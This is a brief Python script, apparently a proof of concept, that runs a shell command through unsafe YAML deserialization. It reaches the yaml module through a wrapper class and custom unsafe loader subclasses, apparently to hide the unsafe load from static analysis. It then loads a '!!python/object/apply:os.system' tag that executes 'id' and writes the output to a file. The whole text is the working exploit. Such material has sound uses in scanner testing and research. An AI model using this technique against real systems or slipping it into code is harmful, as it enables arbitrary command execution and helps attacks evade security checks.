class my_Box:

    def __init__(self, v):
        self.v = v

    @property
    def p(self):
        return self.v
import yaml

class Mine(my_Box(yaml).p.constructor.UnsafeConstructor, my_Box(yaml).p.SafeLoader):
    pass

class L(my_Box(yaml).p.UnsafeLoader):
    pass
my_Box(yaml).p.load_all("!!python/object/apply:os.system ['id>pf']", Loader=L).__next__()
